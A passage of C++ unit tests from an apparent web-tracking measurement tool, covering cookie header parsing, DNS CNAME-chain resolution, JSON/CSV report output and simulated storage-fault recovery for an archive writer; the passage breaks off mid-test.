  EXPECT_EQ(*c->max_age_ms, 3600'000);
}

TEST(SetCookieTest, NegativeMaxAgeParsesAsDeletion) {
  const auto c = parse_set_cookie("k=v; Max-Age=-1");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(*c->max_age_ms, -1000);
}

TEST(SetCookieTest, AttributeNamesCaseInsensitive) {
  const auto c = parse_set_cookie("k=v; SECURE; httponly; samesite=STRICT");
  ASSERT_TRUE(c.has_value());
  EXPECT_TRUE(c->secure);
  EXPECT_TRUE(c->http_only);
  EXPECT_EQ(c->same_site, SameSite::kStrict);
}

TEST(SetCookieTest, ValueMayContainEquals) {
  const auto c = parse_set_cookie("data=a=b=c; Path=/");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(c->name, "data");
  EXPECT_EQ(c->value, "a=b=c");
}

TEST(SetCookieTest, InvalidExpiresIgnored) {
  const auto c = parse_set_cookie("k=v; Expires=not-a-date");
  ASSERT_TRUE(c.has_value());
  EXPECT_FALSE(c->expires.has_value());
}

TEST(SetCookieTest, NonSlashPathIgnored) {
  const auto c = parse_set_cookie("k=v; Path=relative");
  ASSERT_TRUE(c.has_value());
  EXPECT_TRUE(c->path.empty());
}

TEST(SetCookieTest, EmptyHeaderRejected) {
  EXPECT_FALSE(parse_set_cookie("").has_value());
  EXPECT_FALSE(parse_set_cookie("=").has_value());
}

TEST(SetCookieTest, WhitespaceTrimmed) {
  const auto c = parse_set_cookie("  name =  value ; Path = /x ");
  ASSERT_TRUE(c.has_value());
  EXPECT_EQ(c->name, "name");
  EXPECT_EQ(c->value, "value");
  EXPECT_EQ(c->path, "/x");
}

TEST(SetCookieTest, PartitionedAttribute) {
  const auto c = parse_set_cookie("__Host-id=a1b2; Secure; Path=/; Partitioned");
  ASSERT_TRUE(c.has_value());
  EXPECT_TRUE(c->partitioned);
  EXPECT_TRUE(c->secure);

  // Case-insensitive, like every other attribute name.
  const auto lower = parse_set_cookie("k=v; partitioned");
  ASSERT_TRUE(lower.has_value());
  EXPECT_TRUE(lower->partitioned);
  // The parser records the attribute even without Secure — CHIPS's
  // Secure requirement is a storage-model rule (cookies::CookieJar), and
  // the measurement pipeline must see the malformed header as sent.
  EXPECT_FALSE(lower->secure);

  const auto absent = parse_set_cookie("k=v; Secure");
  ASSERT_TRUE(absent.has_value());
  EXPECT_FALSE(absent->partitioned);
}

TEST(SetCookieTest, SerializeRoundTripsEveryAttribute) {
  ParsedSetCookie c;
  c.name = "sid";
  c.value = "a=b=c";
  c.domain = "example.com";
  c.path = "/app";
  c.expires = 1746748800000;  // second-aligned, expressible as an HTTP date
  c.max_age_ms = 3600'000;
  c.secure = true;
  c.http_only = true;
  c.same_site = SameSite::kLax;
  c.partitioned = true;

  const auto again = parse_set_cookie(serialize_set_cookie(c));
  ASSERT_TRUE(again.has_value());
  EXPECT_EQ(again->name, c.name);
  EXPECT_EQ(again->value, c.value);
  EXPECT_EQ(again->domain, c.domain);
  EXPECT_EQ(again->path, c.path);
  EXPECT_EQ(again->expires, c.expires);
  EXPECT_EQ(again->max_age_ms, c.max_age_ms);
  EXPECT_EQ(again->secure, c.secure);
  EXPECT_EQ(again->http_only, c.http_only);
  EXPECT_EQ(again->same_site, c.same_site);
  EXPECT_EQ(again->partitioned, c.partitioned);
}

TEST(SetCookieTest, SerializeRoundTripsBarePair) {
  ParsedSetCookie c;
  c.name = "_ga";
  c.value = "GA1.1.444332364.1746838827";
  const std::string header = serialize_set_cookie(c);
  EXPECT_EQ(header, "_ga=GA1.1.444332364.1746838827");
  const auto again = parse_set_cookie(header);
  ASSERT_TRUE(again.has_value());
  EXPECT_FALSE(again->partitioned);
  EXPECT_EQ(again->same_site, SameSite::kUnspecified);
}

}  // namespace
}  // namespace cg::net

// Appended: DNS / CNAME-chain tests (paper §8 cloaking substrate).
#include "net/dns.h"

namespace cg::net {
namespace {

TEST(DnsTest, UnknownHostResolvesToItself) {
  DnsResolver dns;
  EXPECT_EQ(dns.resolve_canonical("www.example.com"), "www.example.com");
  EXPECT_FALSE(dns.has_cname("www.example.com"));
}

TEST(DnsTest, SingleCname) {
  DnsResolver dns;
  dns.add_cname("metrics.example.com", "collect.cloaktrack.net");
  EXPECT_EQ(dns.resolve_canonical("metrics.example.com"),
            "collect.cloaktrack.net");
  EXPECT_TRUE(dns.has_cname("metrics.example.com"));
}

TEST(DnsTest, FollowsChains) {
  DnsResolver dns;
  dns.add_cname("a.site.com", "b.cdn.net");
  dns.add_cname("b.cdn.net", "c.tracker.io");
  EXPECT_EQ(dns.resolve_canonical("a.site.com"), "c.tracker.io");
}

TEST(DnsTest, BoundsCnameLoops) {
  DnsResolver dns;
  dns.add_cname("x.com", "y.com");
  dns.add_cname("y.com", "x.com");
  const auto resolved = dns.resolve_canonical("x.com");  // must terminate
  EXPECT_TRUE(resolved == "x.com" || resolved == "y.com");
}

TEST(DnsTest, LaterRecordWins) {
  DnsResolver dns;
  dns.add_cname("h.com", "first.net");
  dns.add_cname("h.com", "second.net");
  EXPECT_EQ(dns.resolve_canonical("h.com"), "second.net");
}

TEST(DnsTest, CnameLoopSurfacesAsResolutionFailure) {
  DnsResolver dns;
  dns.add_cname("x.com", "y.com");
  dns.add_cname("y.com", "x.com");
  const auto resolution = dns.resolve("x.com");
  EXPECT_FALSE(resolution.ok());
  EXPECT_EQ(resolution.status, DnsStatus::kCnameLoop);
  // The canonical name falls back to the queried host, never an
  // intermediate hop of the looping chain.
  EXPECT_EQ(resolution.canonical, "x.com");
}

TEST(DnsTest, SelfLoopFails) {
  DnsResolver dns;
  dns.add_cname("me.com", "me.com");
  EXPECT_EQ(dns.resolve("me.com").status, DnsStatus::kCnameLoop);
}

TEST(DnsTest, OverlongChainFails) {
  DnsResolver dns;
  const auto host = [](int i) {
    // Built by append — chained operator+ here trips the GCC 12 -Wrestrict
    // false positive (PR 105329) under warnings-as-errors.
    std::string h = "h";
    h += std::to_string(i);
    h += ".com";
    return h;
  };
  for (int i = 0; i < 12; ++i) {
    dns.add_cname(host(i), host(i + 1));
  }
  const auto resolution = dns.resolve("h0.com");
  EXPECT_FALSE(resolution.ok());
  EXPECT_EQ(resolution.status, DnsStatus::kChainTooLong);
  EXPECT_EQ(resolution.canonical, "h0.com");
  // A chain within the hop budget still resolves.
  EXPECT_EQ(dns.resolve("h8.com").status, DnsStatus::kOk);
}

TEST(DnsTest, InjectedFailuresApplyAndClear) {
  DnsResolver dns;
  dns.add_cname("alias.com", "target.net");
  dns.inject_failure("alias.com", DnsStatus::kNxDomain);
  const auto failed = dns.resolve("alias.com");
  EXPECT_FALSE(failed.ok());
  EXPECT_EQ(failed.status, DnsStatus::kNxDomain);
  EXPECT_EQ(failed.canonical, "alias.com");
  // Compat path degrades to the queried host rather than lying about hops.
  EXPECT_EQ(dns.resolve_canonical("alias.com"), "alias.com");

  dns.clear_failures();
  EXPECT_EQ(dns.resolve("alias.com").status, DnsStatus::kOk);
  EXPECT_EQ(dns.resolve_canonical("alias.com"), "target.net");
}

}  // namespace
}  // namespace cg::net
