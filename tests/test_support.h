// Shared helpers for browser-level tests: a minimal site with a first-party
// script and a tracker, plus convenience context builders.
#pragma once

#include <string>

#include "browser/browser.h"
#include "browser/catalog.h"
#include "browser/page.h"
#include "net/psl.h"
#include "script/ops.h"
#include "script/script_spec.h"

namespace cg::testsupport {

inline script::ScriptSpec spec_of(std::string id, std::string url,
                                  script::Category category,
                                  std::vector<script::ScriptOp> ops) {
  script::ScriptSpec spec;
  spec.id = std::move(id);
  spec.url_template = std::move(url);
  spec.category = category;
  spec.ops = std::move(ops);
  return spec;
}

inline script::ExecContext context_for_url(std::string url) {
  script::ExecContext ctx;
  ctx.script_url = std::move(url);
  ctx.script_domain =
      net::etld_plus_one(net::Url::must_parse(ctx.script_url).host());
  return ctx;
}

inline script::ExecContext inline_context() {
  script::ExecContext ctx;
  ctx.inline_script = true;
  return ctx;
}

/// A browser wired to a one-page site at https://www.shop.example/ whose
/// DocumentSpec includes the given catalog script ids.
class TestSite {
 public:
  explicit TestSite(std::vector<std::string> script_ids = {},
                    browser::BrowserConfig config = {})
      : browser_(config, /*seed=*/0xFEED) {
    browser_.set_catalog(&catalog_);
    browser::DocumentSpec doc;
    doc.script_ids = std::move(script_ids);
    doc.link_paths = {"/a", "/b"};
    doc.static_dom_nodes = 40;
    browser_.set_document_provider(
        [doc](const net::Url&) { return doc; });
  }

  browser::ScriptCatalog& catalog() { return catalog_; }
  browser::Browser& browser() { return browser_; }

  std::unique_ptr<browser::Page> open() {
    return browser_.navigate(net::Url::must_parse(kSiteUrl));
  }

  static constexpr const char* kSiteUrl = "https://www.shop.example/";
  static constexpr const char* kSite = "shop.example";

 private:
  browser::ScriptCatalog catalog_;
  browser::Browser browser_;
};

}  // namespace cg::testsupport
