// Tests for the report module: JSON writer, CSV escaping, summary exports.
#include <gtest/gtest.h>

#include <limits>
#include <sstream>

#include "analysis/analyzer.h"
#include "report/report.h"

namespace cg::report {
namespace {

TEST(JsonTest, Scalars) {
  EXPECT_EQ(Json(nullptr).dump(), "null");
  EXPECT_EQ(Json(true).dump(), "true");
  EXPECT_EQ(Json(false).dump(), "false");
  EXPECT_EQ(Json(42).dump(), "42");
  EXPECT_EQ(Json(-7LL).dump(), "-7");
  EXPECT_EQ(Json(2.5).dump(), "2.5");
  EXPECT_EQ(Json("hi").dump(), "\"hi\"");
}

TEST(JsonTest, EscapesStrings) {
  EXPECT_EQ(Json::escape("a\"b\\c\nd\te"), "a\\\"b\\\\c\\nd\\te");
  EXPECT_EQ(Json(std::string("\x01")).dump(), "\"\\u0001\"");
}

TEST(JsonTest, ObjectsSortedAndNested) {
  Json j = Json::object();
  j["b"] = 2;
  j["a"] = Json::array();
  j["a"].push_back(1);
  j["a"].push_back("x");
  EXPECT_EQ(j.dump(), "{\"a\":[1,\"x\"],\"b\":2}");
}

TEST(JsonTest, IndentedOutputIsStable) {
  Json j = Json::object();
  j["k"] = Json::object();
  j["k"]["v"] = 1;
  EXPECT_EQ(j.dump(2), "{\n  \"k\": {\n    \"v\": 1\n  }\n}");
}

TEST(JsonTest, NonFiniteDoublesSerializeAsNull) {
  // Regression guard: a bare `nan`/`inf` token is not valid JSON and breaks
  // every downstream parser (Perfetto, `cgsim trace-check`, report
  // re-ingestion). Non-finite doubles must degrade to null instead.
  EXPECT_EQ(Json(std::numeric_limits<double>::quiet_NaN()).dump(), "null");
  EXPECT_EQ(Json(std::numeric_limits<double>::infinity()).dump(), "null");
  EXPECT_EQ(Json(-std::numeric_limits<double>::infinity()).dump(), "null");

  Json j = Json::object();
  j["rate"] = Json(std::numeric_limits<double>::quiet_NaN());
  j["ok"] = 1.5;
  const std::string text = j.dump();
  EXPECT_EQ(text, "{\"ok\":1.5,\"rate\":null}");
  // And the output must round-trip through our own parser.
  const auto parsed = Json::parse(text);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_TRUE(parsed->find("rate")->is_null());
}

TEST(JsonTest, EmptyContainers) {
  EXPECT_EQ(Json::object().dump(2), "{}");
  EXPECT_EQ(Json::array().dump(2), "[]");
}

TEST(CsvTest, EscapeRules) {
  EXPECT_EQ(csv_escape("plain"), "plain");
  EXPECT_EQ(csv_escape("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_escape("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_escape("line\nbreak"), "\"line\nbreak\"");
}

class ReportFixture : public ::testing::Test {
 protected:
  ReportFixture() : analyzer_(entities::EntityMap::builtin()) {
    instrument::VisitLog log;
    log.site_host = "www.example.com";
    log.site = "example.com";
    log.has_cookie_logs = true;
    log.has_request_logs = true;
    instrument::ScriptCookieSetRecord set;
    set.cookie_name = "_ga";
    set.value = "GA1.1.444332364.1746838827";
    set.setter_domain = "googletagmanager.com";
    set.setter_url = "https://www.googletagmanager.com/gtag/js";
    set.true_domain = "googletagmanager.com";
    set.time = 1;
    log.script_sets.push_back(set);
    instrument::RequestRecord req;
    req.url = "https://bat.bing.com/a?g=444332364";
    req.host = "bat.bing.com";
    req.dest_domain = "bing.com";
    req.initiator_domain = "bing.com";
    req.time = 5;
    log.requests.push_back(req);
    analyzer_.ingest(log);
  }
  analysis::Analyzer analyzer_;
};

TEST_F(ReportFixture, TotalsJsonCarriesCounters) {
  const auto json = totals_to_json(analyzer_.totals());
  const auto dumped = json.dump();
  EXPECT_NE(dumped.find("\"sites_doc_exfil\":1"), std::string::npos);
  EXPECT_NE(dumped.find("\"sites_complete\":1"), std::string::npos);
  EXPECT_NE(dumped.find("\"timings\""), std::string::npos);
}

TEST_F(ReportFixture, PairsCsvListsDetectedExfiltration) {
  std::ostringstream out;
  write_pairs_csv(analyzer_, 10, out);
  const auto csv = out.str();
  EXPECT_NE(csv.find("cookie_name,owner_domain,action"), std::string::npos);
  EXPECT_NE(csv.find("_ga,googletagmanager.com,exfiltrated,1,Microsoft"),
            std::string::npos);
}

TEST_F(ReportFixture, DomainsCsvMergesActionCounts) {
  std::ostringstream out;
  write_domains_csv(analyzer_, 10, out);
  EXPECT_NE(out.str().find("bing.com,1,0,0"), std::string::npos);
}

TEST_F(ReportFixture, SummaryJsonHasTopSections) {
  const auto dumped = summary_to_json(analyzer_, 5).dump(2);
  EXPECT_NE(dumped.find("\"top_exfiltrated\""), std::string::npos);
  EXPECT_NE(dumped.find("\"top_exfiltrator_domains\""), std::string::npos);
  EXPECT_NE(dumped.find("\"_ga\""), std::string::npos);
}

}  // namespace
}  // namespace cg::report

// Appended: JSON parser tests (checkpoint/resume reads these back).
namespace cg::report {
namespace {

TEST(JsonParseTest, RoundTripsEverythingDumpEmits) {
  auto j = Json::object();
  j["int"] = 42;
  j["neg"] = -7;
  j["big"] = std::int64_t{1746748800000};
  j["pi"] = 3.25;
  j["flag"] = true;
  j["off"] = false;
  j["nothing"] = nullptr;
  j["text"] = "line\nbreak\t\"quoted\" back\\slash";
  auto arr = Json::array();
  arr.push_back(1);
  arr.push_back("two");
  auto nested = Json::object();
  nested["k"] = "v";
  arr.push_back(std::move(nested));
  j["arr"] = std::move(arr);

  for (const int indent : {0, 2}) {
    const auto parsed = Json::parse(j.dump(indent));
    ASSERT_TRUE(parsed.has_value()) << "indent=" << indent;
    EXPECT_EQ(parsed->dump(indent), j.dump(indent));
  }
}

TEST(JsonParseTest, Accessors) {
  const auto parsed = Json::parse(
      R"({"n": 3, "d": 1.5, "b": true, "s": "hi", "a": [10, 20, 30]})");
  ASSERT_TRUE(parsed.has_value());
  ASSERT_TRUE(parsed->is_object());
  EXPECT_EQ(parsed->find("n")->as_int(), 3);
  EXPECT_DOUBLE_EQ(parsed->find("d")->as_double(), 1.5);
  EXPECT_TRUE(parsed->find("b")->as_bool());
  EXPECT_EQ(parsed->find("s")->as_string(), "hi");
  EXPECT_EQ(parsed->find("missing"), nullptr);
  const auto* arr = parsed->find("a");
  ASSERT_NE(arr, nullptr);
  ASSERT_TRUE(arr->is_array());
  ASSERT_EQ(arr->size(), 3u);
  EXPECT_EQ(arr->at(1).as_int(), 20);
  // Fallbacks apply on type mismatch.
  EXPECT_EQ(parsed->find("s")->as_int(-1), -1);
  EXPECT_EQ(parsed->find("n")->as_string("fallback"), "fallback");
}

TEST(JsonParseTest, UnicodeEscapes) {
  const auto parsed = Json::parse(R"(["\u0041\u00e9\u20ac"])");
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->at(0).as_string(), "A\xC3\xA9\xE2\x82\xAC");
}

TEST(JsonParseTest, RejectsMalformedInput) {
  EXPECT_FALSE(Json::parse("").has_value());
  EXPECT_FALSE(Json::parse("{").has_value());
  EXPECT_FALSE(Json::parse("[1, 2").has_value());
  EXPECT_FALSE(Json::parse("{\"a\" 1}").has_value());
  EXPECT_FALSE(Json::parse("{\"a\": 1} trailing").has_value());
  EXPECT_FALSE(Json::parse("\"unterminated").has_value());
  EXPECT_FALSE(Json::parse("nul").has_value());
  EXPECT_FALSE(Json::parse("-").has_value());
  EXPECT_FALSE(Json::parse("[\"\\q\"]").has_value());
  EXPECT_FALSE(Json::parse(R"(["\ud800"])").has_value());  // lone surrogate
}

TEST(JsonParseTest, DepthIsBounded) {
  std::string deep;
  for (int i = 0; i < 200; ++i) deep += '[';
  for (int i = 0; i < 200; ++i) deep += ']';
  EXPECT_FALSE(Json::parse(deep).has_value());
  // Shallow nesting is fine.
  EXPECT_TRUE(Json::parse("[[[[[[[[42]]]]]]]]").has_value());
}

}  // namespace
}  // namespace cg::report
