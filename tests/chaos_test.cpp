// Storage-chaos tests: FaultingSink injection semantics, the self-healing
// Writer (retry/heal/scrub/quarantine), crash-resume over every tail
// corruption class, atomic file replacement, and the crawler's poison-site
// quarantine when the archive path fails permanently.
#include <gtest/gtest.h>

#include <cstdint>
#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "corpus/corpus.h"
#include "crawler/crawler.h"
#include "fault/fault.h"
#include "obs/metrics.h"
#include "store/atomic_file.h"
#include "store/byte_sink.h"
#include "store/cgar.h"
#include "store/reader.h"
#include "store/record_codec.h"
#include "store/writer.h"

namespace cg::store {
namespace {

std::filesystem::path temp_path(const char* name) {
  return std::filesystem::temp_directory_path() / name;
}

/// A small but non-trivial VisitLog so site blocks span a few hundred bytes
/// — enough for short writes and bit flips to land mid-block.
instrument::VisitLog make_log(int rank) {
  instrument::VisitLog log;
  log.rank = rank;
  log.site = "site" + std::to_string(rank) + ".example";
  log.site_host = "www." + log.site;
  log.pages_visited = 1 + rank % 4;
  log.has_cookie_logs = true;
  log.has_request_logs = true;

  instrument::ScriptCookieSetRecord set;
  set.cookie_name = "_ga";
  set.value = "GA1.2." + std::to_string(rank * 7919);
  set.setter_url = "https://cdn.tracker.net/collect.js";
  set.setter_domain = "tracker.net";
  set.true_domain = "tracker.net";
  set.time = 100 + rank;
  log.script_sets.push_back(set);

  instrument::HttpCookieSetRecord http;
  http.cookie_name = "session";
  http.value = std::to_string(rank) + "-abcdef";
  http.response_host = log.site_host;
  http.setter_domain = log.site;
  http.first_party = true;
  http.time = 90;
  log.http_sets.push_back(http);

  instrument::RequestRecord req;
  req.url = "https://px.tracker.net/p?r=" + std::to_string(rank);
  req.host = "px.tracker.net";
  req.dest_domain = "tracker.net";
  req.time = 1700;
  log.requests.push_back(req);
  return log;
}

/// Packs `count` logs through a fault-free BufferSink writer, syncing every
/// `sync_every` sites (0 = never), and returns the finished archive bytes.
std::string reference_pack(int count, int sync_every,
                           std::vector<std::uint64_t>* sync_offsets = nullptr) {
  auto sink = std::make_unique<BufferSink>();
  BufferSink* buffer = sink.get();
  Writer writer(std::move(sink), WriterOptions{});
  for (int rank = 0; rank < count; ++rank) {
    EXPECT_TRUE(writer.add(make_log(rank)));
    if (sync_every > 0 && (rank + 1) % sync_every == 0) {
      EXPECT_TRUE(writer.sync_for_checkpoint());
      if (sync_offsets != nullptr) {
        sync_offsets->push_back(writer.bytes_written());
      }
    }
  }
  Error error;
  EXPECT_TRUE(writer.finish(&error)) << error.to_string();
  return buffer->bytes();
}

/// A plan that injects exactly one class at rate 1.0 inside [min_op,
/// max_op) and nothing outside it.
fault::IoFaultPlan window_plan(fault::IoFault cls, std::uint64_t min_op,
                               std::uint64_t max_op) {
  fault::IoFaultPlanParams params;
  params.op_fault_rate = 1.0;
  params.min_op = min_op;
  params.max_op = max_op;
  params.no_space_weight = cls == fault::IoFault::kNoSpace ? 1.0 : 0.0;
  params.short_write_weight = cls == fault::IoFault::kShortWrite ? 1.0 : 0.0;
  params.fsync_loss_weight = cls == fault::IoFault::kFsyncLost ? 1.0 : 0.0;
  params.bit_flip_weight = cls == fault::IoFault::kBitFlip ? 1.0 : 0.0;
  return fault::IoFaultPlan(params);
}

// ---- FaultingSink injection semantics ------------------------------------

TEST(FaultingSinkTest, NoSpaceConsumesNothingAndReportsTheError) {
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  FaultingSink sink(std::move(inner),
                    window_plan(fault::IoFault::kNoSpace, 1, 2));

  ASSERT_TRUE(sink.write("header").ok());
  const IoStatus faulted = sink.write("payload");
  EXPECT_EQ(faulted.fault, fault::IoFault::kNoSpace);
  EXPECT_EQ(buffer->bytes(), "header");
  EXPECT_EQ(sink.injected(fault::IoFault::kNoSpace), 1);

  ASSERT_TRUE(sink.write("payload").ok());
  EXPECT_EQ(buffer->bytes(), "headerpayload");
}

TEST(FaultingSinkTest, ShortWriteLandsAStrictPrefix) {
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  FaultingSink sink(std::move(inner),
                    window_plan(fault::IoFault::kShortWrite, 1, 2));

  ASSERT_TRUE(sink.write("header").ok());
  const std::string payload = "0123456789abcdef";
  const IoStatus faulted = sink.write(payload);
  EXPECT_EQ(faulted.fault, fault::IoFault::kShortWrite);
  EXPECT_GT(buffer->bytes().size(), 6u);  // some of the payload landed...
  EXPECT_LT(buffer->bytes().size(), 6u + payload.size());  // ...not all
  EXPECT_EQ(buffer->bytes().substr(0, 6), "header");
  EXPECT_EQ(payload.substr(0, buffer->bytes().size() - 6),
            buffer->bytes().substr(6));
}

TEST(FaultingSinkTest, BitFlipReportsSuccessButCorruptsTheMedium) {
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  FaultingSink sink(std::move(inner),
                    window_plan(fault::IoFault::kBitFlip, 1, 2));

  ASSERT_TRUE(sink.write("header").ok());
  const std::string payload(64, '\0');
  EXPECT_TRUE(sink.write(payload).ok());  // the lie that makes it silent
  ASSERT_EQ(buffer->bytes().size(), 6u + payload.size());
  int flipped_bits = 0;
  for (std::size_t i = 0; i < payload.size(); ++i) {
    unsigned char byte =
        static_cast<unsigned char>(buffer->bytes()[6 + i]);
    while (byte != 0) {
      flipped_bits += byte & 1;
      byte >>= 1;
    }
  }
  EXPECT_EQ(flipped_bits, 1);
  EXPECT_EQ(sink.injected(fault::IoFault::kBitFlip), 1);
}

TEST(FaultingSinkTest, FsyncLossDropsASuffixOfTheUnsyncedTail) {
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  FaultingSink sink(std::move(inner),
                    window_plan(fault::IoFault::kFsyncLost, 2, 3));

  ASSERT_TRUE(sink.write("header").ok());  // op 0
  ASSERT_TRUE(sink.write("0123456789").ok());  // op 1
  const IoStatus lost = sink.sync();  // op 2: tears the unsynced tail
  EXPECT_EQ(lost.fault, fault::IoFault::kFsyncLost);
  EXPECT_GE(buffer->bytes().size(), 6u);  // synced bytes never torn...
  EXPECT_LT(buffer->bytes().size(), 16u);  // ...some of the tail gone
  EXPECT_EQ(sink.injected(fault::IoFault::kFsyncLost), 1);
}

TEST(FaultingSinkTest, WriteClassDrawsOnSyncOpsAreIgnored) {
  auto inner = std::make_unique<BufferSink>();
  FaultingSink sink(std::move(inner),
                    window_plan(fault::IoFault::kNoSpace, 0, 100));
  EXPECT_TRUE(sink.sync().ok());  // kNoSpace drawn on a sync op: ignored
  EXPECT_EQ(sink.injected(fault::IoFault::kNoSpace), 0);
  FaultingSink sync_sink(std::make_unique<BufferSink>(),
                         window_plan(fault::IoFault::kFsyncLost, 0, 100));
  EXPECT_TRUE(sync_sink.write("bytes").ok());  // fsync draw on a write op
  EXPECT_EQ(sync_sink.injected(fault::IoFault::kFsyncLost), 0);
}

TEST(FaultingSinkTest, InjectionScheduleIsDeterministic) {
  fault::IoFaultPlanParams params;
  params.op_fault_rate = 0.5;
  auto run = [&params]() {
    auto inner = std::make_unique<BufferSink>();
    BufferSink* buffer = inner.get();
    FaultingSink sink(std::move(inner), fault::IoFaultPlan(params));
    std::string transcript;
    for (int op = 0; op < 200; ++op) {
      const IoStatus status = sink.write("0123456789abcdef");
      transcript += status.ok() ? '.' : 'X';
      if (op % 13 == 0) {
        transcript += sink.sync().ok() ? 's' : 'L';
      }
    }
    return std::make_pair(transcript, buffer->bytes());
  };
  const auto first = run();
  const auto second = run();
  EXPECT_EQ(first.first, second.first);
  EXPECT_EQ(first.second, second.second);
}

// ---- the self-healing writer ---------------------------------------------

TEST(WriterChaosTest, TransientFaultsHealToAByteIdenticalArchive) {
  const int kSites = 40;
  const std::string reference = reference_pack(kSites, 8);

  fault::IoFaultPlanParams params;
  params.op_fault_rate = 0.25;
  obs::MetricsRegistry metrics;
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  auto faulting = std::make_unique<FaultingSink>(
      std::move(inner), fault::IoFaultPlan(params), &metrics);
  FaultingSink* injector = faulting.get();

  WriterOptions options;
  options.io.scrub_writes = true;
  options.io.buffer_unsynced = true;
  options.metrics = &metrics;
  Writer writer(std::move(faulting), options);
  for (int rank = 0; rank < kSites; ++rank) {
    ASSERT_TRUE(writer.add(make_log(rank))) << "rank " << rank;
    if ((rank + 1) % 8 == 0) {
      ASSERT_TRUE(writer.sync_for_checkpoint()) << "rank " << rank;
    }
  }
  Error error;
  ASSERT_TRUE(writer.finish(&error)) << error.to_string();

  EXPECT_EQ(buffer->bytes(), reference);
  EXPECT_GT(writer.io_backoff_ms(), 0);

  // Error-budget ledger: every injected fault is accounted by the healer.
  const auto counters = metrics.to_json().dump();
  EXPECT_GT(injector->ops(), 0u);
  for (const auto cls :
       {fault::IoFault::kNoSpace, fault::IoFault::kShortWrite,
        fault::IoFault::kFsyncLost}) {
    EXPECT_EQ(injector->injected(cls),
              metrics.counter(std::string("io.faults.") +
                            std::string(fault::io_fault_name(cls))))
        << fault::io_fault_name(cls) << " in " << counters;
  }
  // Bit flips report success, so they never reach io.faults.* as themselves:
  // the scrub detects them and the retry re-lands the block.
  EXPECT_EQ(injector->injected(fault::IoFault::kBitFlip),
            metrics.counter("io.scrub_detected"));
}

TEST(WriterChaosTest, ExhaustedRetryBudgetRestoresTheFileAndQuarantines) {
  // The window is wider than the retry budget (1 + 8 retries = 9 attempts),
  // so the first block append fails permanently; the next one is clean.
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  auto faulting = std::make_unique<FaultingSink>(
      std::move(inner), window_plan(fault::IoFault::kNoSpace, 1, 11));

  obs::MetricsRegistry metrics;
  WriterOptions options;
  options.metrics = &metrics;
  Writer writer(std::move(faulting), options);
  const std::uint64_t header_bytes = writer.bytes_written();

  EXPECT_FALSE(writer.append_site_block(0, encode_site_block(make_log(0))));
  EXPECT_EQ(writer.last_io_error().code, fault::ArchiveFault::kIoError);
  EXPECT_EQ(writer.bytes_written(), header_bytes);
  EXPECT_EQ(writer.sites_written(), 0);

  // The writer is not dead: the caller quarantines the site and continues.
  EXPECT_TRUE(writer.append_site_block(1, encode_site_block(make_log(1))));
  Error error;
  ASSERT_TRUE(writer.finish(&error)) << error.to_string();

  auto reader = Reader::from_buffer(buffer->bytes(), &error);
  ASSERT_TRUE(reader.has_value()) << error.to_string();
  EXPECT_EQ(reader->site_count(), 1);
  EXPECT_TRUE(reader->verify(&error).has_value()) << error.to_string();
}

TEST(WriterChaosTest, SyncLossIsHealedWhenBufferingUnsynced) {
  const std::string reference = reference_pack(3, 3);

  // Ops: 0 header, 1-3 site blocks, 4 the sync that loses the tail.
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  auto faulting = std::make_unique<FaultingSink>(
      std::move(inner), window_plan(fault::IoFault::kFsyncLost, 4, 5));

  obs::MetricsRegistry metrics;
  WriterOptions options;
  options.io.buffer_unsynced = true;
  options.metrics = &metrics;
  Writer writer(std::move(faulting), options);
  for (int rank = 0; rank < 3; ++rank) {
    ASSERT_TRUE(writer.add(make_log(rank)));
  }
  EXPECT_TRUE(writer.sync_for_checkpoint());
  EXPECT_GE(metrics.counter("io.sync_heals"), 1);
  Error error;
  ASSERT_TRUE(writer.finish(&error)) << error.to_string();
  EXPECT_EQ(buffer->bytes(), reference);
}

TEST(WriterChaosTest, ScrubCatchesSilentBitFlips) {
  const std::string reference = reference_pack(1, 0);

  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  auto faulting = std::make_unique<FaultingSink>(
      std::move(inner), window_plan(fault::IoFault::kBitFlip, 1, 2));

  obs::MetricsRegistry metrics;
  WriterOptions options;
  options.io.scrub_writes = true;
  options.metrics = &metrics;
  Writer writer(std::move(faulting), options);
  ASSERT_TRUE(writer.add(make_log(0)));
  Error error;
  ASSERT_TRUE(writer.finish(&error)) << error.to_string();

  EXPECT_EQ(metrics.counter("io.scrub_detected"), 1);
  EXPECT_EQ(buffer->bytes(), reference);
}

TEST(WriterChaosTest, WithoutScrubABitFlipIsSilentUntilRead) {
  auto inner = std::make_unique<BufferSink>();
  BufferSink* buffer = inner.get();
  auto faulting = std::make_unique<FaultingSink>(
      std::move(inner), window_plan(fault::IoFault::kBitFlip, 1, 2));

  Writer writer(std::move(faulting), WriterOptions{});
  EXPECT_TRUE(writer.add(make_log(0)));  // the write lied; nobody noticed
  Error error;
  ASSERT_TRUE(writer.finish(&error)) << error.to_string();

  // The reader's CRC walk is the backstop that catches it.
  auto reader = Reader::from_buffer(buffer->bytes(), &error);
  if (reader.has_value()) {
    EXPECT_FALSE(reader->verify(&error).has_value());
    EXPECT_EQ(error.code, fault::ArchiveFault::kChecksumMismatch);
  } else {
    EXPECT_NE(error.code, fault::ArchiveFault::kNone);
  }
}

// ---- crash resume over every tail corruption class -----------------------

TEST(ResumeChaosTest, ResumeHealsEveryTailCorruptionClass) {
  const int kSites = 12;
  const int kCheckpointSites = 7;
  std::vector<std::uint64_t> sync_offsets;
  const std::string reference =
      reference_pack(kSites, kCheckpointSites, &sync_offsets);
  ASSERT_FALSE(sync_offsets.empty());
  const std::uint64_t prefix_bytes = sync_offsets[0];
  const std::string prefix =
      reference.substr(0, static_cast<std::size_t>(prefix_bytes));

